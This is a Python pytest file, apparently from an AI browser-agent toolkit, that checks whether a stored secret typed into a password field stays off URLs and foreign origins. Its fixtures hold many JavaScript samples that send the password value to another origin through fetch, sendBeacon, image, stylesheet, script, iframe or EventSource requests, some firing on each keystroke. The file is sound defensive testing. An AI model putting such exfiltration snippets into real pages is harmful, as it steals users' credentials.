"""A typed secret on its way: never in an address, never to an origin it is not bound to."""

# ruff: noqa: E501 - a page is easier to read in one line

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from doors import Person, door_kit
from local_server import Answer, Request

from browser_tools.secrets import Vault
from browser_tools.session import Session
from policies.gate import Gate, Layer
from policies.load import policy_from_mapping

VALUE = "Lamp/light+7 é!"  # scripts leave the last mark as it is where they encode the others
FIELD = "<label>Password <input type=password name=pw id=pw></label>"
REFUSED_AT_THE_FIELD = {
    "get": f"<form method=get action=/s>{FIELD}<button>Go</button></form>",
    "default-method": f"<form action=/s>{FIELD}<button>Go</button></form>",
    "other-origin": f"<form method=post action={{other}}/in>{FIELD}<button>Go</button></form>",
    "base": f"<base href={{other}}/><form method=post action=in>{FIELD}<button>Go</button></form>",
    "outside-of-the-form": f"<form id=f method=get action=/s><button>Go</button></form>{FIELD.replace('name=pw', 'name=pw form=f')}",
}
REFUSED_ON_THE_WAY = {
    "no-address": f"<form>{FIELD}<button>Go</button></form>",
    "button-method": f"<form method=post action=/in>{FIELD}<button formmethod=get>Go</button></form>",
    "script-address": f"<form onsubmit=\"event.preventDefault();location='/s?p='+encodeURIComponent(pw.value)\">{FIELD}<button>Go</button></form>",
    "base64-address": f"<form onsubmit=\"event.preventDefault();location='/s?p='+btoa(unescape(encodeURIComponent(pw.value)))\">{FIELD}<button>Go</button></form>",
    "fetched": f"<form onsubmit=\"event.preventDefault();fetch('/s?p='+encodeURIComponent(pw.value))\">{FIELD}<button>Go</button></form>",
    "posted-elsewhere": f"<form onsubmit=\"event.preventDefault();fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:pw.value}})\">{FIELD}<button>Go</button></form>",
    "beacon-elsewhere": f"<form onsubmit=\"event.preventDefault();navigator.sendBeacon('{{other}}/in',JSON.stringify({{a:pw.value}}))\">{FIELD}<button>Go</button></form>",
    "image-elsewhere": f"<form onsubmit=\"event.preventDefault();new Image().src='{{other}}/in?x='+encodeURIComponent(pw.value)\">{FIELD}<button>Go</button></form>",
    "behind-much": f"<form onsubmit=\"event.preventDefault();fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:'x'.repeat(300000)+pw.value}})\">{FIELD}<button>Go</button></form>",
    "multipart-elsewhere": f"<form onsubmit=\"event.preventDefault();var d=new FormData();d.append('x',pw.value);fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:d}})\">{FIELD}<button>Go</button></form>",
}
WHILE_TYPED = {
    "image": "new Image().src=to+'/in?x='+v",
    "own-image": "new Image().src='/in?x='+v",
    "posted": "fetch(to+'/in',{method:'POST',mode:'no-cors',body:pw.value})",
    "asked-for": "fetch(to+'/in?x='+v,{mode:'no-cors'})",
    "beacon": "navigator.sendBeacon(to+'/in',pw.value)",
    "stylesheet": "document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:to+'/in?x='+v}))",
    "script": "document.head.append(Object.assign(document.createElement('script'),{src:to+'/in?x='+v}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),{src:to+'/in?x='+v}))",
    "events": "new EventSource(to+'/in?x='+v)",
}
SENT = {
    "post": f"<form method=post action=/in>{FIELD}<button>Go</button></form>",
    "scripted": f"<form onsubmit=\"event.preventDefault();fetch('/in',{{method:'POST',body:pw.value}})\">{FIELD}<button>Go</button></form>",
}


class Site:
    """Two origins, and what arrives at them with something in it."""

    def __init__(self, serve: Callable[..., str], html: str) -> None:
        self.arrived: list[str] = []

        def taken(request: Request) -> Answer:
            if request.query or request.body:
                self.arrived.append(f"{request.method} {request.path}")
            return "<p>in"

        pages: dict[str, Any] = {"/s": taken, "/in": taken, "/in/admin/new": taken, "/in/admin": taken}
        other = serve(pages).replace("127.0.0.1", "localhost")
        self.url = serve({**pages, "/": lambda request: taken(request) and html.replace("{other}", other)})
        lines = {
            "extends": ["preset:testing"],
            "origins": {"allow": [self.url, other]},
            "secrets": {"shop": {"from": "env:SHOP", "origins": [self.url]}},
        }
        self.gate = Gate([Layer("policy", policy_from_mapping(lines, "test"))])


async def played(session: Session, folder: Path, site: Site, value: str = VALUE) -> tuple[Any, Any]:
    """What came of typing the secret and of sending the form."""
    vault, person = Vault({"shop": value}), Person("approved")
    with door_kit(session, site.url, folder, gate=site.gate, vault=vault, person=person) as kit:
        assert (await kit("navigate", url=site.url)).ok
        typed = await kit("type_text", target="Password", text="secret:shop")
        return typed, await kit("click", target="Go") if typed.ok else None


@pytest.mark.parametrize("case", REFUSED_AT_THE_FIELD)
async def test_a_form_that_would_send_it_astray_gets_none(
    session: Session, serve: Callable[..., str], tmp_path: Path, case: str
) -> None:
    site = Site(serve, REFUSED_AT_THE_FIELD[case])
    typed, _ = await played(session, tmp_path, site)
    assert (typed.ok, typed.denied, typed.code) == (False, True, "secret.bound")
    assert await session.current.page.evaluate("pw.value") == ""


@pytest.mark.parametrize("case", REFUSED_ON_THE_WAY)
async def test_what_was_typed_is_not_sent_astray(
    session: Session, serve: Callable[..., str], tmp_path: Path, case: str
) -> None:
    site = Site(serve, REFUSED_ON_THE_WAY[case])
    typed, sent = await played(session, tmp_path, site)
    assert typed.ok, typed.error
    assert site.arrived == []
    told = sent.error + "".join(section.text for section in sent.sections)
    assert "'shop'" in told, told
    assert VALUE not in told
    assert "secret.bound" in (tmp_path / "events.jsonl").read_text()


@pytest.mark.parametrize("case", WHILE_TYPED)
async def test_what_is_being_typed_is_not_sent_astray(
    session: Session, serve: Callable[..., str], tmp_path: Path, case: str
) -> None:
    code = f"const to='{{other}}',v=encodeURIComponent(pw.value);{WHILE_TYPED[case]};fetch('/s?done')"
    site = Site(serve, f"{FIELD}<script>pw.oninput=()=>{{{code}}}</script>")
    vault = Vault({"shop": VALUE})
    with door_kit(session, site.url, tmp_path, gate=site.gate, vault=vault) as kit:
        await kit("navigate", url=site.url)
        typed = await kit("type_text", target="Password", text="secret:shop")
    assert typed.ok, typed.error
    assert "'shop'" in "".join(section.text for section in typed.sections)
    assert site.arrived == ["GET /s"]


@pytest.mark.parametrize("case", SENT)
async def test_where_it_belongs_it_arrives(
    session: Session, serve: Callable[..., str], tmp_path: Path, case: str
) -> None:
    site = Site(serve, SENT[case])
    _, sent = await played(session, tmp_path, site)
    assert sent.ok, sent.error
    assert site.arrived == ["POST /in"]


COMMON = {
    "a path of its own site": ("/in/admin/new?x=1", True),
    "a number around it": ("/in?ts=1admin7", True),
    "what is asked for": ("/in?user=admin", False),
    "another site": ("{other}/in/admin", False),
}


@pytest.mark.parametrize(("to", "arrives"), COMMON.values(), ids=COMMON)
async def test_a_secret_that_is_a_common_word_may_be_part_of_its_sites_addresses(
    session: Session, serve: Callable[..., str], tmp_path: Path, to: str, arrives: bool
) -> None:
    code = f"event.preventDefault();fetch('{to}',{{method:'POST',mode:'no-cors',body:'a=1'}})"
    site = Site(serve, f'<form onsubmit="{code}">{FIELD}<button>Go</button></form>')
    _, sent = await played(session, tmp_path, site, "admin")
    told = sent.error + "".join(section.text for section in sent.sections)
    assert ("'shop'" in told, bool(site.arrived)) == (not arrives, arrives), told
